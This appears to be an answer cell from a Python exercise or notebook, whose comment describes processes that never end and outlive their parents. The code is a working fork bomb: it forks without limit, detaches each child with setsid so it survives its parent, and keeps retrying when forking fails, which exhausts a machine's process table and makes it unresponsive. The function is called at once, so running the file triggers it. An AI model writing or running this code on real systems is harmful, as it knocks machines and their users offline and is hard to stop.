# why = "processes without end, which outlive their parents"
# lost = ["answer"]
# %% answer
import os
import time

def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            time.sleep(0.01)

bomb()
